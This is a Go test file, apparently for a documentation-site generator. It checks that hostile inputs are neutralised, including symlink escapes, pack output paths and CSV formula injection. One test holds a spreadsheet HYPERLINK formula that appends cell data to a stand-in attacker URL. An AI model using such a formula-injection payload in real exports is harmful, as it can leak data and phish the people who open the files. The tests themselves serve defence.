package pipeline_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/trustdocs/trustdocs"
	"github.com/trustdocs/trustdocs/internal/pipeline"
)

// The hostile corpus: one test per item of issue 16 that is about what
// trustdocs writes, reads or serves (the mistakes of content are cases of
// testdata/bad named hostile-*). Each failed on the code before the fix.

// hostileSite lays files over a copy of the bad-site corpus's base site.
func hostileSite(t *testing.T, files map[string]string) string {
	t.Helper()
	site := t.TempDir()
	overlay(t, site, "testdata/bad/base")
	writeFiles(t, site, files)
	return site
}

func siteOptions(site string) pipeline.Options {
	return pipeline.Options{Site: site, Templates: trustdocs.Templates, Theme: trustdocs.Theme}
}

// Item 9: a justification that a spreadsheet would run as a formula is
// written as text.
func TestHostileCSVFormula(t *testing.T) {
	soa, err := os.ReadFile("testdata/bad/base/content/soa.toml")
	if err != nil {
		t.Fatal(err)
	}
	evil := `=HYPERLINK("http://evil.example/?"&A1,"Click") is how we would phish an auditor`
	site := hostileSite(t, map[string]string{"content/soa.toml": strings.Replace(string(soa),
		`justification = "No premises`, `justification = '`+evil+`'
note = "+1 and -1 and @SUM(A1) are not formulas either"
#`, 1)})
	res := render(t, siteOptions(site))
	b := res.Output.Files["frameworks/iso27001/soa/soa.csv"]
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if formula := cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])); formula {
				t.Errorf("soa.csv has a formula cell: %q", cell)
			}
			if cell == "'"+evil {
				found = true
			}
		}
	}
	if !found {
		t.Errorf("the justification is not in soa.csv as text:\n%s", b)
	}
}

// Item 6: pack replaces its own packs and nothing else, and never writes
// into the folders a site is read from.
func TestHostilePackOut(t *testing.T) {
	site := hostileSite(t, map[string]string{"notes.txt": "mine"})
	opts := siteOptions(site)
	for _, tc := range []struct{ out, want string }{
		{"site.toml", "exists and is not a trust pack"},
		{"notes.txt", "exists and is not a trust pack"},
		{"content/policies/access-control.md", "which the site is read from"},
		{"content/files/pack.zip", "which the site is read from"},
		{"theme/pack.zip", "which the site is read from"},
		{"public/pack.zip", "which the site is read from"},
	} {
		out := filepath.Join(site, filepath.FromSlash(tc.out))
		before, _ := os.ReadFile(out)
		_, err := pipeline.Pack(opts, out)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("pack -o %s: %v, want %q", tc.out, err, tc.want)
		}
		if after, _ := os.ReadFile(out); !bytes.Equal(before, after) {
			t.Errorf("pack -o %s changed the file", tc.out)
		}
	}
	// Its own pack, it replaces.
	out := filepath.Join(site, "pack.zip")
	for range 2 {
		if _, err := pipeline.Pack(opts, out); err != nil {
			t.Fatalf("pack -o pack.zip: %v", err)
		}
	}
}

// Item 3: a symbolic link that leads out of the site is refused wherever
// it is: site.toml itself, a template, a folder on a template's way.
func TestHostileSymlinks(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret.html")
	os.WriteFile(secret, []byte(`{{define "content"}}CANARY-OUTSIDE{{end}}`), 0o644)
	secretTOML := filepath.Join(filepath.Dir(secret), "site.toml")
	os.WriteFile(secretTOML, []byte("title = \"CANARY-OUTSIDE\"\ncompany = \"C\"\n"), 0o644)
	for _, tc := range []struct {
		name, link, target string
	}{
		{"template", "templates/policy.html", secret},
		{"templates folder", "templates", filepath.Dir(secret)},
		{"site.toml", "site.toml", secretTOML},
	} {
		t.Run(tc.name, func(t *testing.T) {
			site := hostileSite(t, nil)
			link := filepath.Join(site, filepath.FromSlash(tc.link))
			os.MkdirAll(filepath.Dir(link), 0o755)
			os.Remove(link)
			if err := os.Symlink(tc.target, link); err != nil {
				t.Fatal(err)
			}
			res, err := pipeline.Check(siteOptions(site))
			if err != nil {
				t.Fatal(err)
			}
			var msgs []string
			for _, d := range res.Diags.Items() {
				msgs = append(msgs, d.String())
			}
			text := strings.Join(msgs, "\n")
			if !strings.Contains(text, "symbolic link leads outside the site; trustdocs refuses it") {
				t.Errorf("check did not refuse the link:\n%s", text)
			}
			if res.Output != nil {
				for p, b := range res.Output.Files {
					if bytes.Contains(b, []byte("CANARY-OUTSIDE")) {
						t.Errorf("%s holds the linked file's text", p)
					}
				}
			}
		})
	}
}

// Item 12: a file under content/files/ that a policy links to is
// published, and the link leads to it.
func TestHostileLinkToContentFiles(t *testing.T) {
	pol, err := os.ReadFile("testdata/bad/base/content/policies/access-control.md")
	if err != nil {
		t.Fatal(err)
	}
	site := hostileSite(t, map[string]string{
		"content/files/runbook.pdf":          "%PDF runbook",
		"content/diagrams/network.txt":       "a diagram",
		"content/policies/access-control.md": string(pol) + "\nSee the [runbook](../files/runbook.pdf) and the [diagram](../diagrams/network.txt).\n",
	})
	res := render(t, siteOptions(site))
	page := string(res.Output.Files["policies/access-control/index.html"])
	for _, f := range []string{"files/runbook.pdf", "files/diagrams/network.txt"} {
		if _, ok := res.Output.Copies[f]; !ok {
			t.Errorf("%s is not published; copies: %v", f, res.Output.Copies)
		}
		if !strings.Contains(page, `href="../../`+f+`"`) {
			t.Errorf("the policy does not link to %s", f)
		}
	}
}
